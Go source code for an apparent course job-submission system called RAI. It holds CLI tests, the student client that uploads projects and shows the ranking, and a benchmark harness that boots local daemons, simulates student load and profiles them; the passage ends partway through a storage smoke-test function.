		if !strings.Contains(out.String(), want) {
			t.Errorf("output missing %q:\n%s", want, out.String())
		}
	}
}

func TestRaiSubmitAndRanking(t *testing.T) {
	brokerAddr, fsURL, dbURL, creds := services(t)
	dir := writeProject(t, project.Spec{
		Impl: cnn.ImplParallel, Tuning: 1, Team: "cli-team", WithUsage: true, WithReport: true,
	})
	profile := writeProfile(t, creds)
	common := []string{"-p", dir, "-profile", profile, "-broker", brokerAddr, "-fs", fsURL, "-db", dbURL, "-timeout", "60s"}

	var out, errb bytes.Buffer
	if code := run(append(common, "submit"), &out, &errb); code != 0 {
		t.Fatalf("rai submit exited %d\n%s\n%s", code, out.String(), errb.String())
	}
	out.Reset()
	if code := run(append(common, "ranking"), &out, &errb); code != 0 {
		t.Fatalf("rai ranking exited %d: %s", code, errb.String())
	}
	if !strings.Contains(out.String(), "cli-team (you)") || !strings.Contains(out.String(), "ranked 1 of 1") {
		t.Errorf("ranking output:\n%s", out.String())
	}
}

func TestRaiSubmitRequiresReport(t *testing.T) {
	brokerAddr, fsURL, dbURL, creds := services(t)
	dir := writeProject(t, project.Spec{Impl: cnn.ImplParallel, Team: "cli-team"}) // no USAGE/report.pdf
	profile := writeProfile(t, creds)
	var out, errb bytes.Buffer
	code := run([]string{"-p", dir, "-profile", profile, "-broker", brokerAddr, "-fs", fsURL, "-db", dbURL, "submit"}, &out, &errb)
	if code == 0 {
		t.Fatal("submit without report.pdf succeeded")
	}
	if !strings.Contains(errb.String(), "USAGE") && !strings.Contains(errb.String(), "report.pdf") {
		t.Errorf("stderr = %q", errb.String())
	}
}

func TestRaiMissingProfile(t *testing.T) {
	var out, errb bytes.Buffer
	code := run([]string{"-profile", "/nonexistent/.rai.profile", "run"}, &out, &errb)
	if code == 0 {
		t.Fatal("missing profile accepted")
	}
	if !strings.Contains(errb.String(), ".rai.profile") {
		t.Errorf("stderr = %q", errb.String())
	}
}

func TestRaiBadCommand(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"frobnicate"}, &out, &errb); code == 0 {
		t.Fatal("unknown command accepted")
	}
	if code := run(nil, &out, &errb); code == 0 {
		t.Fatal("no command accepted")
	}
}

// TestKeysJSONRoundTrip verifies the keygen file format the daemons load.
func TestKeysJSONRoundTrip(t *testing.T) {
	creds := []auth.Credentials{auth.NewCredentials("a"), auth.NewCredentials("b")}
	blob, err := json.Marshal(creds)
	if err != nil {
		t.Fatal(err)
	}
	var back []auth.Credentials
	if err := json.Unmarshal(blob, &back); err != nil {
		t.Fatal(err)
	}
	if back[0] != creds[0] || back[1] != creds[1] {
		t.Error("keys.json round trip mismatch")
	}
}
