// Command rai is the student client (paper §IV "RAI Client"): a single
// dependency-free executable that submits the current project directory
// to the RAI service, streams the build output back to the terminal, and
// checks the team's competition ranking.
//
// Usage:
//
//	rai [flags] run       submit a development job (rai-build.yml or default)
//	rai [flags] submit    make a final submission (enforced build file)
//	rai [flags] session   open an interactive container (worker must allow it)
//	rai [flags] ranking   show the anonymized competition leaderboard
//	rai version           print embedded build information
//
// Credentials are read from $HOME/.rai.profile (Listing 3) or -profile.
package main

import (
	"bufio"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"rai/internal/archivex"
	"rai/internal/auth"
	"rai/internal/brokerd"
	"rai/internal/build"
	"rai/internal/cas"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/netx"
	"rai/internal/objstore"
	"rai/internal/ranking"
	"rai/internal/release"
	"rai/internal/telemetry"
)

// buildInfo is stamped by the CI pipeline; the dev build carries
// placeholders (paper §VII: commit and date are embedded so bug reports
// pinpoint the responsible commit).
var buildInfo = release.BuildInfo{
	Version: "0.2.0-dev", Commit: "worktree", Branch: "devel",
	BuildDate: time.Date(2017, 5, 1, 0, 0, 0, 0, time.UTC),
	OS:        "linux", Arch: "amd64",
}

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("rai", flag.ContinueOnError)
	fs.SetOutput(stderr)
	projectDir := fs.String("p", ".", "project directory")
	profilePath := fs.String("profile", "", "credentials file (default $HOME/.rai.profile)")
	brokerAddr := fs.String("broker", "127.0.0.1:7400", "broker address")
	fsURL := fs.String("fs", "http://127.0.0.1:7401", "file server URL")
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	timeout := fs.Duration("timeout", 30*time.Minute, "job wait timeout")
	dialTimeout := fs.Duration("dial-timeout", brokerd.DefaultDialTimeout, "broker dial timeout per attempt")
	rpcAttempts := fs.Int("rpc-attempts", netx.DefaultMaxAttempts, "attempts per RPC before giving up")
	rpcTimeout := fs.Duration("rpc-timeout", 0, "per-attempt RPC deadline (0 = each service's default)")
	traceSample := fs.Float64("trace-sample", 1, "head-sampling rate for this submission's trace (decided at the root, propagated everywhere)")
	fs.Usage = func() {
		fmt.Fprintln(stderr, "usage: rai [flags] run|submit|session|ranking|version")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fs.Usage()
		return 2
	}
	cmd := fs.Arg(0)
	if cmd == "version" {
		fmt.Fprintln(stdout, buildInfo)
		fmt.Fprintln(stdout, telemetry.NewStamp("rai", buildInfo.Version))
		return 0
	}

	creds, err := loadProfile(*profilePath)
	if err != nil {
		fmt.Fprintf(stderr, "rai: %v\n", err)
		fmt.Fprintln(stderr, "rai: create $HOME/.rai.profile with the keys from your course email")
		return 1
	}

	// Ctrl-C stops waiting on the job rather than killing the terminal
	// state mid-stream; a second Ctrl-C (after stop restores the default
	// handler) force-kills.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	rpc := rpcConfig{dial: *dialTimeout, policy: netx.Policy{MaxAttempts: *rpcAttempts, PerAttempt: *rpcTimeout}}

	switch cmd {
	case "run", "submit":
		return submit(ctx, cmd, creds, *projectDir, *brokerAddr, *fsURL, *timeout, rpc, *traceSample, stdout, stderr)
	case "ranking":
		return showRanking(creds, *dbURL, stdout, stderr)
	case "session":
		return session(ctx, creds, *projectDir, *brokerAddr, *fsURL, *timeout, rpc, *traceSample, os.Stdin, stdout, stderr)
	default:
		fmt.Fprintf(stderr, "rai: unknown command %q\n", cmd)
		return 2
	}
}

// rpcConfig carries the resilience knobs shared by every service client
// the CLI builds.
type rpcConfig struct {
	dial   time.Duration
	policy netx.Policy
}

func (r rpcConfig) queue(ctx context.Context, addr string) (*core.RemoteQueue, error) {
	return core.NewRemoteQueue(ctx, addr,
		core.WithQueuePolicy(r.policy),
		core.WithQueueDialTimeout(r.dial))
}

func (r rpcConfig) objects(baseURL string) *objstore.Client {
	return objstore.NewClient(baseURL, objstore.WithClientPolicy(r.policy))
}

// observe wires the CLI's spans and log events onto the broker so the
// collector can assemble the job timeline (`raiadmin trace <job_id>`).
// Records ship in the background and nothing is printed locally; the
// returned func flushes whatever is pending before the process exits.
// The CLI is the trace root: when sampleRate < 1 the returned sampler
// decides keep/drop here, and the verdict rides the job envelope so
// every downstream service agrees without coordination.
func observe(ctx context.Context, queue core.Queue, sampleRate float64) (*telemetry.Tracer, *telemetry.Sampler, *telemetry.Logger, func()) {
	exp := telemetry.NewExporter(ctx, "rai", core.ShipTelemetry(queue))
	var sampler *telemetry.Sampler
	if sampleRate < 1 {
		sampler = telemetry.NewSampler(sampleRate)
	}
	tracer := telemetry.NewTracer(256, telemetry.WithSpanSink(sampler.SpanSink(exp.ExportSpan)),
		telemetry.WithTracerInstance(telemetry.NewInstanceID("rai")))
	logger := telemetry.NewLogger("rai", telemetry.WithLogSink(exp.ExportEvent))
	return tracer, sampler, logger, func() { exp.Close() }
}

// session opens an interactive container and relays stdin commands —
// the §VIII future-work feature ("interactive sessions to enable more
// debugging and profiling tools").
func session(ctx context.Context, creds auth.Credentials, dir, brokerAddr, fsURL string, timeout time.Duration, rpc rpcConfig, sampleRate float64, stdin io.Reader, stdout, stderr io.Writer) int {
	archive, err := archivex.PackDir(dir)
	if err != nil {
		fmt.Fprintf(stderr, "rai: packing project: %v\n", err)
		return 1
	}
	queue, err := rpc.queue(ctx, brokerAddr)
	if err != nil {
		fmt.Fprintf(stderr, "rai: connecting to broker: %v\n", err)
		return 1
	}
	defer queue.Close()
	tracer, sampler, logger, flushTel := observe(ctx, queue, sampleRate)
	defer flushTel()
	client := &core.Client{
		Creds: creds, Queue: queue,
		Objects: rpc.objects(fsURL),
		Stdout:  stdout,
		LogWait: timeout,
		Tracer:  tracer,
		Sampler: sampler,
		Log:     logger,
	}
	sess, err := client.OpenSessionContext(ctx, archive)
	if err != nil {
		fmt.Fprintf(stderr, "rai: opening session: %v\n", err)
		return 1
	}
	defer sess.Close()
	fmt.Fprintln(stdout, "interactive session open; type commands, 'exit' to finish")
	scanner := bufio.NewScanner(stdin)
	for {
		fmt.Fprint(stdout, "rai> ")
		if !scanner.Scan() {
			break
		}
		line := strings.TrimSpace(scanner.Text())
		if line == "" {
			continue
		}
		if line == "exit" {
			break
		}
		res, err := sess.Run(ctx, line)
		if err != nil {
			fmt.Fprintf(stderr, "rai: %v\n", err)
			return 1
		}
		if res.ExitCode != 0 {
			fmt.Fprintf(stdout, "(exit %d)\n", res.ExitCode)
		}
	}
	if err := sess.Close(); err != nil {
		fmt.Fprintf(stderr, "rai: closing session: %v\n", err)
		return 1
	}
	if sess.Result != nil && sess.Result.BuildKey != "" {
		fmt.Fprintf(stdout, "session build output: %s/%s\n", sess.Result.BuildBucket, sess.Result.BuildKey)
	}
	return 0
}

// submit runs the §V client sequence against a live deployment.
func submit(ctx context.Context, cmd string, creds auth.Credentials, dir, brokerAddr, fsURL string, timeout time.Duration, rpc rpcConfig, sampleRate float64, stdout, stderr io.Writer) int {
	// Client step 1: the project directory must exist; rai-build.yml is
	// optional (the Listing 1 default applies).
	info, err := os.Stat(dir)
	if err != nil || !info.IsDir() {
		fmt.Fprintf(stderr, "rai: project directory %s does not exist\n", dir)
		return 1
	}
	var spec *build.Spec
	specPath := filepath.Join(dir, build.FileName)
	if data, err := os.ReadFile(specPath); err == nil {
		spec, err = build.Parse(data)
		if err != nil {
			fmt.Fprintf(stderr, "rai: %s: %v\n", build.FileName, err)
			return 1
		}
	} else {
		spec = build.Default()
		fmt.Fprintf(stdout, "no %s found; using the course default\n", build.FileName)
	}
	kind := core.KindRun
	if cmd == "submit" {
		kind = core.KindSubmit
		// Final submissions require USAGE and report.pdf (§V).
		for _, f := range []string{"USAGE", "report.pdf"} {
			if _, err := os.Stat(filepath.Join(dir, f)); err != nil {
				fmt.Fprintf(stderr, "rai: final submission requires %s\n", f)
				return 1
			}
		}
	}

	queue, err := rpc.queue(ctx, brokerAddr)
	if err != nil {
		fmt.Fprintf(stderr, "rai: connecting to broker: %v\n", err)
		return 1
	}
	defer queue.Close()
	tracer, sampler, logger, flushTel := observe(ctx, queue, sampleRate)
	defer flushTel()
	client := &core.Client{
		Creds:   creds,
		Queue:   queue,
		Objects: rpc.objects(fsURL),
		Stdout:  stdout,
		LogWait: timeout,
		Tracer:  tracer,
		Sampler: sampler,
		Log:     logger,
	}

	// Step 3: move the project. Preferred path is the delta protocol
	// (DESIGN.md §16): hash the tree into a chunk manifest, negotiate,
	// send only chunks the server lacks. Any capability problem falls
	// back to the classic full .tar.bz2 upload, so old servers keep
	// working without a flag.
	res, err := submitDelta(ctx, client, kind, spec, dir, stdout)
	if errors.Is(err, core.ErrDeltaUnsupported) {
		archive, size, perr := packToTemp(dir)
		if perr != nil {
			fmt.Fprintf(stderr, "rai: packing project: %v\n", perr)
			return 1
		}
		defer archive.Close()
		fmt.Fprintf(stdout, "uploading %d byte project archive\n", size)
		res, err = client.SubmitReaderContext(ctx, kind, spec, archive, size)
	}
	if err != nil {
		fmt.Fprintf(stderr, "rai: %v\n", err)
		return 1
	}
	cached := ""
	if res.CachedBuild {
		cached = " [build cached]"
	}
	fmt.Fprintf(stdout, "job %s %s (elapsed %.1fs)%s\n", res.JobID, res.Status, res.Elapsed.Seconds(), cached)
	if res.BuildKey != "" {
		fmt.Fprintf(stdout, "build output: %s/%s\n", res.BuildBucket, res.BuildKey)
	}
	if res.Status != core.StatusSucceeded {
		return 1
	}
	return 0
}

// submitDelta hashes dir into a manifest and submits it over the delta
// protocol, printing the one-line transfer summary. Errors that mean
// "server can't do this" surface as core.ErrDeltaUnsupported.
func submitDelta(ctx context.Context, client *core.Client, kind string, spec *build.Spec, dir string, stdout io.Writer) (*core.JobResult, error) {
	m, src, err := cas.BuildDir(dir)
	if err != nil {
		// An unhashable tree (permissions, exotic entries) is not fatal:
		// the tar packer may still manage it.
		return nil, fmt.Errorf("%w: hashing project tree: %w", core.ErrDeltaUnsupported, err)
	}
	res, err := client.SubmitManifestContext(ctx, kind, spec, m, src)
	if res != nil && res.Transfer != nil {
		t := res.Transfer
		reused := t.ChunksTotal - t.ChunksSent
		if t.SentBytes < t.TotalBytes {
			fmt.Fprintf(stdout, "transfer: %d of %d bytes sent, %d of %d chunks reused (%.1f%% deduplicated)\n",
				t.SentBytes, t.TotalBytes, reused, t.ChunksTotal, 100*t.DedupRatio())
		} else {
			// Tiny trees: the manifest itself outweighs the content, so an
			// "X of Y" framing would read as nonsense.
			fmt.Fprintf(stdout, "transfer: %d bytes sent for a %d-byte tree (%d chunks)\n",
				t.SentBytes, t.TotalBytes, t.ChunksTotal)
		}
	}
	return res, err
}

// showRanking prints the anonymized leaderboard (§VI).
func showRanking(creds auth.Credentials, dbURL string, stdout, stderr io.Writer) int {
	lb := &ranking.Leaderboard{DB: docstore.NewClient(dbURL)}
	entries, err := lb.View(creds.UserName)
	if err != nil {
		fmt.Fprintf(stderr, "rai: %v\n", err)
		return 1
	}
	fmt.Fprint(stdout, ranking.Format(entries))
	if rank, total, err := lb.RankOf(creds.UserName); err == nil {
		fmt.Fprintf(stdout, "\nyour team is ranked %d of %d\n", rank, total)
	}
	return 0
}

// packToTemp streams a .tar.bz2 of dir into an unlinked temp file and
// returns it positioned at the start, with its size. Being an
// *os.File, it is seekable, so the upload client can rewind and retry.
func packToTemp(dir string) (*os.File, int64, error) {
	f, err := os.CreateTemp("", "rai-archive-*.tar.bz2")
	if err != nil {
		return nil, 0, err
	}
	_ = os.Remove(f.Name()) // unlink now; the fd keeps the bytes alive
	if err := archivex.PackDirTo(f, dir); err != nil {
		_ = f.Close()
		return nil, 0, err
	}
	size, err := f.Seek(0, io.SeekCurrent)
	if err != nil {
		_ = f.Close()
		return nil, 0, err
	}
	if _, err := f.Seek(0, io.SeekStart); err != nil {
		_ = f.Close()
		return nil, 0, err
	}
	return f, size, nil
}

// loadProfile reads credentials from path or $HOME/.rai.profile.
func loadProfile(path string) (auth.Credentials, error) {
	if path == "" {
		home, err := os.UserHomeDir()
		if err != nil {
			return auth.Credentials{}, err
		}
		path = filepath.Join(home, auth.ProfileFileName)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		return auth.Credentials{}, err
	}
	return auth.ParseProfile(data)
}
