// Command raibench is the course-scale macro-benchmark harness: it
// boots the real daemons (raibroker, raifs, raidb, N×raiworker, and
// the telemetry collector) as subprocesses over loopback, drives M
// concurrent simulated students through the submit → poll →
// download-build loop with the workload package's course model,
// scrapes every daemon's /metrics while the load runs, decomposes
// each submission into its pipeline phases from the collector's span
// store, and writes a schema-versioned BENCH_*.json. The compare mode
// diffs two such reports with regression thresholds and exits nonzero
// on breach — the tracked perf trajectory DESIGN.md §12 describes.
//
// Usage:
//
//	raibench run [-students 8] [-duration 10s] [-workers 2] [-concurrency 2]
//	             [-out BENCH.json] [-bin dir] [-keep dir] [-seed 408]
//	             [-full-images 12] [-scrape-interval 1s] [-think-min 10ms]
//	             [-think-max 250ms] [-phase-timeout 30s]
//	             [-pprof-capture raibroker] [-pprof-seconds 2]
//	             [-trace-sample 1] [-tail-linger 0] [-tail-keep 0.1]
//	             [-retain 0] [-slo]
//	raibench compare OLD.json NEW.json [-max-throughput-drop 0.6]
//	             [-max-latency-growth 3.0] [-latency-floor 2s]
//	raibench fs-smoke [-size 32MiB-bytes] [-allowance bytes] [-bin dir] [-keep dir]
//	raibench version
//
// fs-smoke is the streaming storage canary: it boots raifs on the disk
// backend, round-trips a synthetic archive and then one twice the size
// through the streamed PUT/GET paths, and fails if the daemon's
// resident set grows with the archive (whole-object buffering crept
// back in).
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"math"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"rai/internal/auth"
	"rai/internal/bench"
	"rai/internal/clock"
	"rai/internal/docstore"
	"rai/internal/telemetry"
)

// version is stamped by the CI pipeline; kept in lockstep with cmd/rai.
const version = "0.2.0-dev"

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	if len(args) < 1 {
		fmt.Fprintln(stderr, "usage: raibench run|compare|fs-smoke|version [flags]")
		return 2
	}
	switch args[0] {
	case "run":
		return runBench(args[1:], stdout, stderr)
	case "compare":
		return compareBench(args[1:], stdout, stderr)
	case "fs-smoke":
		return fsSmoke(args[1:], stdout, stderr)
	case "version", "-version", "--version":
		fmt.Fprintln(stdout, telemetry.NewStamp("raibench", version))
		return 0
	default:
		fmt.Fprintf(stderr, "raibench: unknown command %q\n", args[0])
		return 2
	}
}

func runBench(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raibench run", flag.ContinueOnError)
	fs.SetOutput(stderr)
	students := fs.Int("students", 8, "concurrent simulated students")
	duration := fs.Duration("duration", 10*time.Second, "load duration")
	workers := fs.Int("workers", 2, "raiworker daemons")
	concurrency := fs.Int("concurrency", 2, "jobs per worker at once")
	out := fs.String("out", "BENCH.json", "report output path")
	binDir := fs.String("bin", "", "directory with prebuilt daemon binaries (empty = go build into the scratch dir)")
	keep := fs.String("keep", "", "use this scratch directory and keep it (empty = temp dir, removed on success)")
	seed := fs.Uint64("seed", 408, "course model/dataset seed")
	fullImages := fs.Int("full-images", 12, "images in the workers' testfull.hdf5 (small = fast real-clock jobs)")
	scrapeInterval := fs.Duration("scrape-interval", time.Second, "/metrics sampling interval")
	thinkMin := fs.Duration("think-min", 10*time.Millisecond, "minimum think time between a student's submissions")
	thinkMax := fs.Duration("think-max", 250*time.Millisecond, "maximum think time")
	phaseTimeout := fs.Duration("phase-timeout", 30*time.Second, "wait for the collector to persist straggler traces")
	rateLimit := fs.Duration("rate-limit", time.Millisecond, "worker per-user submission spacing")
	pprofCapture := fs.String("pprof-capture", "", "daemon instance to CPU/heap-profile mid-load (e.g. raibroker, raiworker-1)")
	pprofSeconds := fs.Int("pprof-seconds", 2, "CPU profile length for -pprof-capture")
	traceSample := fs.Float64("trace-sample", 1, "head-sampling rate for submission traces (1 = keep every trace)")
	tailLinger := fs.Duration("tail-linger", 0, "collector tail-retention linger window (0 = persist immediately)")
	tailKeep := fs.Float64("tail-keep", 0.1, "collector keep rate for boring traces (with -tail-linger)")
	retain := fs.Duration("retain", 0, "collector TTL for persisted traces/events (0 = keep forever)")
	sloOn := fs.Bool("slo", false, "run the collector's SLO engine against every daemon and assert rai_slo_* gauges export")
	resubmit := fs.Bool("resubmit", false, "resubmission workload: each student iterates on one project (cold upload, identical resubmit, then small edits) over the delta protocol; asserts ≥90% transfer reduction and a warm build-cache hit")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	clk := clock.Real{}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	dir := *keep
	removeDir := false
	if dir == "" {
		tmp, err := os.MkdirTemp("", "raibench-*")
		if err != nil {
			fmt.Fprintf(stderr, "raibench: %v\n", err)
			return 1
		}
		dir = tmp
		removeDir = true
	} else if err := os.MkdirAll(dir, 0o755); err != nil {
		fmt.Fprintf(stderr, "raibench: %v\n", err)
		return 1
	}
	fmt.Fprintf(stdout, "scratch directory: %s\n", dir)

	bins := map[string]string{}
	if *binDir != "" {
		for _, name := range []string{"raibroker", "raifs", "raidb", "raiworker", "raiadmin"} {
			bins[name] = filepath.Join(*binDir, name)
		}
	} else {
		moduleRoot, err := bench.FindModuleRoot(".")
		if err != nil {
			fmt.Fprintf(stderr, "raibench: %v (pass -bin to use prebuilt binaries)\n", err)
			return 1
		}
		built, err := bench.BuildBinaries(ctx, moduleRoot, dir, stdout)
		if err != nil {
			fmt.Fprintf(stderr, "raibench: %v\n", err)
			return 1
		}
		bins = built
	}

	creds := make([]auth.Credentials, *students)
	for i := range creds {
		creds[i] = auth.NewCredentials(fmt.Sprintf("student-%03d", i+1))
	}

	cfg := bench.ClusterConfig{
		Bin:               bins,
		Dir:               dir,
		Workers:           *workers,
		WorkerConcurrency: *concurrency,
		Seed:              *seed,
		FullImages:        *fullImages,
		RateLimit:         *rateLimit,
		Pprof:             *pprofCapture != "",
		TraceSample:       *traceSample,
		TailLinger:        *tailLinger,
		TailKeep:          *tailKeep,
		Retain:            *retain,
		SLOScrape:         *sloOn,
		SLOInterval:       *scrapeInterval,
	}
	fmt.Fprintf(stdout, "booting cluster: broker, fs, db, collector, %d worker(s)\n", *workers)
	cluster, err := bench.StartCluster(ctx, clk, cfg, creds)
	if err != nil {
		fmt.Fprintf(stderr, "raibench: %v\n", err)
		return 1
	}
	defer cluster.Stop()
	fmt.Fprintf(stdout, "cluster up: broker %s, fs %s, db %s\n", cluster.BrokerAddr, cluster.FSURL, cluster.DBURL)

	scraper := bench.StartScraper(ctx, clk, cluster.MetricsURLs, *scrapeInterval)
	if *pprofCapture != "" {
		go captureProfiles(ctx, clk, cluster, *pprofCapture, *pprofSeconds, *duration, dir, stdout)
	}

	loadCfg := bench.LoadConfig{
		Students:      *students,
		Duration:      *duration,
		Seed:          *seed,
		ThinkMin:      *thinkMin,
		ThinkMax:      *thinkMax,
		DownloadBuild: true,
		SampleRate:    *traceSample,
	}
	var result *bench.LoadResult
	var resubmitStats *bench.ResubmitStats
	if *resubmit {
		fmt.Fprintf(stdout, "driving %d students in resubmit mode for %s\n", *students, *duration)
		result, resubmitStats, err = bench.RunResubmitLoad(ctx, clk, cluster, loadCfg, creds, stdout)
	} else {
		plans := bench.BuildPlans(loadCfg, creds)
		fmt.Fprintf(stdout, "driving %d students for %s\n", *students, *duration)
		result, err = bench.RunLoad(ctx, clk, cluster, loadCfg, plans, stdout)
	}
	daemons := scraper.StopScraper()
	if err != nil {
		fmt.Fprintf(stderr, "raibench: %v\n", err)
		return 1
	}

	// Under head sampling only the kept traces can resolve: attributing
	// over every job would count sampled-out submissions as "missing"
	// and bury a real collector failure in expected noise.
	sampling := *traceSample > 0 && *traceSample < 1
	attrIDs := result.JobIDs
	if sampling {
		attrIDs = result.SampledJobIDs
	}
	fmt.Fprintf(stdout, "attributing phases for %d jobs\n", len(attrIDs))
	att := bench.AttributePhases(ctx, clk, docstore.NewClient(cluster.DBURL), attrIDs, *phaseTimeout)

	completed := result.Counts.Succeeded + result.Counts.Failed + result.Counts.Errors
	report := &bench.Report{
		Schema: bench.Schema,
		Stamp:  telemetry.NewStamp("raibench", version),
		Config: bench.RunConfig{
			Students:          *students,
			Workers:           *workers,
			WorkerConcurrency: *concurrency,
			DurationS:         duration.Seconds(),
			Seed:              *seed,
			FullImages:        *fullImages,
			ThinkMinS:         thinkMin.Seconds(),
			ThinkMaxS:         thinkMax.Seconds(),
			ScrapeIntervalS:   scrapeInterval.Seconds(),
			TraceSampleRate:   sampleRateForReport(*traceSample),
			TailLingerS:       tailLinger.Seconds(),
		},
		Jobs:          result.Counts,
		Throughput:    float64(completed) / result.Elapsed.Seconds(),
		Latency:       bench.PercentilesOf(result.Latency),
		Phases:        att.PhasePercentiles(),
		PhaseCoverage: att.Coverage,
		TracedJobs:    att.Traced,
		MissingTraces: att.Missing,
		Daemons:       daemons,
	}
	failed := false
	if resubmitStats != nil {
		report.Resubmit = resubmitStats.Report()
		if err := report.Resubmit.Check(); err != nil {
			fmt.Fprintf(stderr, "raibench: %v\n", err)
			failed = true
		} else {
			fmt.Fprintf(stdout, "resubmit: %.1f%% unchanged-tree transfer reduction, cache hit rate %.2f\n",
				100*report.Resubmit.UnchangedReduction, report.Resubmit.CacheHitRate)
		}
	}
	if sampling {
		if err := checkSamplingHonesty(*traceSample, result.Counts.Sampled, uint64(len(result.JobIDs))); err != nil {
			fmt.Fprintf(stderr, "raibench: %v\n", err)
			failed = true
		}
	}
	if *sloOn {
		if err := checkSLOGauges(ctx, cluster.MetricsURLs["collector"]); err != nil {
			fmt.Fprintf(stderr, "raibench: %v\n", err)
			failed = true
		} else {
			fmt.Fprintln(stdout, "slo: rai_slo_* gauges exported on the collector")
		}
	}

	if err := report.WriteFile(*out); err != nil {
		fmt.Fprintf(stderr, "raibench: %v\n", err)
		return 1
	}
	fmt.Fprintf(stdout, "\n%s\nreport written to %s\n", report.Format(), *out)
	cluster.Stop()
	if completed == 0 {
		fmt.Fprintln(stderr, "raibench: no jobs completed — the run measured nothing")
		return 1
	}
	if failed {
		return 1
	}
	if removeDir {
		_ = os.RemoveAll(dir)
	}
	return 0
}

// sampleRateForReport records the head-sampling rate only when it
// actually sampled (rate 1 and 0 both mean "kept everything" and stay
// out of the JSON via omitempty).
func sampleRateForReport(rate float64) float64 {
	if rate > 0 && rate < 1 {
		return rate
	}
	return 0
}

// checkSamplingHonesty verifies the kept fraction sits within five
// standard deviations of the configured rate (floored at ±0.1 so tiny
// runs don't flap). A breach means verdicts are being lost or
// duplicated between the sampler and the job envelopes.
func checkSamplingHonesty(rate float64, sampled, submitted uint64) error {
	if submitted == 0 {
		return fmt.Errorf("sampling: no jobs submitted, nothing to check")
	}
	n := float64(submitted)
	frac := float64(sampled) / n
	tol := 5 * math.Sqrt(rate*(1-rate)/n)
	if tol < 0.1 {
		tol = 0.1
	}
	if diff := math.Abs(frac - rate); diff > tol {
		return fmt.Errorf("sampling: kept %d/%d traces (%.3f), want %.3f ± %.3f — sampler verdicts are not propagating honestly",
			sampled, submitted, frac, rate, tol)
	}
	return nil
}

// checkSLOGauges scrapes the collector and confirms its SLO engine is
// exporting burn-rate gauges.
func checkSLOGauges(ctx context.Context, url string) error {
	if url == "" {
		return fmt.Errorf("slo: collector has no metrics endpoint")
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return fmt.Errorf("slo: scraping collector: %w", err)
	}
	defer resp.Body.Close()
	snap, err := telemetry.ParseText(resp.Body)
	if err != nil {
		return fmt.Errorf("slo: parsing collector metrics: %w", err)
	}
	for _, s := range snap.Samples {
		if strings.HasPrefix(s.Name, "rai_slo_") {
			return nil
		}
	}
	return fmt.Errorf("slo: no rai_slo_* samples on the collector's /metrics — the engine is not exporting")
}

// captureProfiles waits until the load is about halfway through, then
// pulls a CPU profile and a heap snapshot from the chosen daemon's
// pprof endpoint.
func captureProfiles(ctx context.Context, clk clock.Clock, cluster *bench.Cluster, instance string, seconds int, loadFor time.Duration, dir string, stdout io.Writer) {
	metricsURL, ok := cluster.MetricsURLs[instance]
	if !ok {
		fmt.Fprintf(stdout, "pprof: no metrics endpoint for %q\n", instance)
		return
	}
	base := metricsURL[:len(metricsURL)-len("/metrics")]
	select {
	case <-ctx.Done():
		return
	case <-clk.After(loadFor / 2):
	}
	for _, p := range []struct{ kind, url string }{
		{"cpu", fmt.Sprintf("%s/debug/pprof/profile?seconds=%d", base, seconds)},
		{"heap", base + "/debug/pprof/heap"},
	} {
		out := filepath.Join(dir, fmt.Sprintf("%s-%s.pprof", instance, p.kind))
		if err := fetchToFile(ctx, p.url, out); err != nil {
			fmt.Fprintf(stdout, "pprof: %s capture failed: %v\n", p.kind, err)
			continue
		}
		fmt.Fprintf(stdout, "pprof: %s profile of %s written to %s\n", p.kind, instance, out)
	}
}

func fetchToFile(ctx context.Context, url, path string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer func() {
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("status %s", resp.Status)
	}
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if _, err := io.Copy(f, resp.Body); err != nil {
		_ = f.Close()
		return err
	}
	return f.Close()
}

func fsSmoke(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raibench fs-smoke", flag.ContinueOnError)
	fs.SetOutput(stderr)
	size := fs.Int64("size", 32<<20, "base archive size in bytes (the second upload doubles it)")
	allowance := fs.Int64("allowance", 0, "tolerated RSS growth in bytes between the 1x and 2x uploads (0 = size/2)")
	binDir := fs.String("bin", "", "directory with a prebuilt raifs binary (empty = go build into the scratch dir)")
	keep := fs.String("keep", "", "use this scratch directory and keep it (empty = temp dir, removed on success)")
	readyTimeout := fs.Duration("ready-timeout", 30*time.Second, "raifs boot deadline")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	clk := clock.Real{}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	dir := *keep
	removeDir := false
	if dir == "" {
		tmp, err := os.MkdirTemp("", "raibench-fssmoke-*")
		if err != nil {
			fmt.Fprintf(stderr, "raibench fs-smoke: %v\n", err)
			return 1
		}
		dir = tmp
		removeDir = true
	} else if err := os.MkdirAll(dir, 0o755); err != nil {
		fmt.Fprintf(stderr, "raibench fs-smoke: %v\n", err)
		return 1
	}

	bin := filepath.Join(*binDir, "raifs")
